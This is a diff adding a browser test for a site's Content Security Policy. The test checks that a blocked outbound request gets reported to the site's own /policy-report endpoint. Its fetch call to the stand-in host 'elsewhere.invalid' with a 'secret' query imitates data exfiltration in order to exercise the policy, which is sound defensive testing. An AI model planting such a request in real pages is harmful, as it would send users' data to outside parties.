@@ -17,6 +17,17 @@ test('an injected script does not run', async ({ page }) => {
   expect(await page.evaluate(() => 'slippedIn' in window)).toBe(false);
 });
 
+test('what the policy refused is reported to a function of the site', async ({ page }) => {
+  await page.goto('/about-us');
+  const reported = page.waitForResponse((response) => response.url().endsWith('/policy-report'));
+  await page.evaluate(() => fetch('https://elsewhere.invalid/?secret').catch(() => {}));
+  const response = await reported;
+  expect(response.status()).toBe(204);
+  expect(response.request().postDataJSON()).toMatchObject({
+    'csp-report': { 'effective-directive': 'connect-src' },
+  });
+});
+
 test('every address gets a page with the same headers, and a missing file does not', async ({
   request,
 }) => {
